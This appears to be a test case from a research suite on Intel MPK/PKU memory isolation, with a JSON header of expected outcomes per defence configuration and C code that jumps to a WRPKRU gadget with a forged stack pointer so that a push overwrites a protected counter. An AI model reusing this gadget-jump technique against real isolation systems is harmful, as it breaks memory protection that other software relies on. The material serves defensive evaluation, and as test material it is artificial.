/*
{
  "title": "A jump to the WRPKRU of the handlers' way in with RSP behind the application's counter: the push that follows overwrites it",
  "precondition": "CR4.PKE = 1",
  "reference": "Connor et al., PKU Pitfalls: Attacks on PKU-based Memory Isolation Systems, USENIX Security 2020, section 4 (forged signal frames)",
  "elsewhere": {"qemu-tcg": "QEMU leaves RF clear in the flags that a fault saves (SDM volume 3B, 18.3.1.1)"},
  "symbols": ["interrupt_common"],
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "contained", "event": "exception"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "contained", "event": "exception"},
    "mpk-bundled": {"outcome": "contained"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "find.h"

void interrupt_common(void);

int main(void) {
  // xor %eax, %eax; wrpkru; mov %ebx, %eax; push %rax.
  BYPASS_OF_KEYS(
      const uint64_t place = find((const void *)interrupt_common, "\x31\xc0\x0f\x01\xef", 5);
      __asm__ volatile("movl %1, %%ebx\n movq %2, %%rsp\n jmp *%0"
                       : : "r"(place), "i"(ATTACK_COUNT), "r"(&count + 1), "c"(0), "d"(0) : "rbx", "memory"));
  GOAL_COUNT();
  return 0;
}
